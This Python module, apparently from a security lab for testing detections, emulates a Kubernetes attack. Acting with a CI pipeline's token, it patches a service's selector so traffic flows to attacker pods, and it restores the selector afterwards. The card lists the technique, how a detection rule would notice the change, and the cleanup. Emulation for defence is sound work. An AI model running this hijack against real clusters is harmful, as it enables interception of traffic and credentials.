"""Attack: service turned to other pods.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session, workloads

CARD = base.Card(
    id="service-hijack",
    title="Service turned to other pods",
    technique=base.Technique(id="T1557", name="Adversary-in-the-Middle", tactic="Credential Access"),
    use_case=vocabulary.UseCase.LATERAL_MOVEMENT,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Patches the selector of a service so that its traffic goes to pods of the attacker, with the "
        "pipeline's token, address and client."
    ),
    seen_by=(
        "A rule about selectors changed in place; the pipeline applies services in releases, so a lone patch outside "
        "one is not its habit."
    ),
    cleans_up="The selector is patched back.",
    victim=base.Part.CI,
    when=base.When.NIGHT,
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim)
    services, name = ctx.one_of(victim, paths.core("services", context.HOME), leave_out=["kubernetes"])
    before = ctx.read(f"{services}/{name}").body
    selector = workloads.selector(before)
    ctx.restore_later(f"{services}/{name}", {"spec": {"selector": selector}})
    yield thief.get(f"{services}/{name}")
    changed = {"spec": {"selector": dict.fromkeys(selector, ctx.name(name))}}
    yield thief.patch(f"{services}/{name}", changed, content_type=session.MERGE_PATCH)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
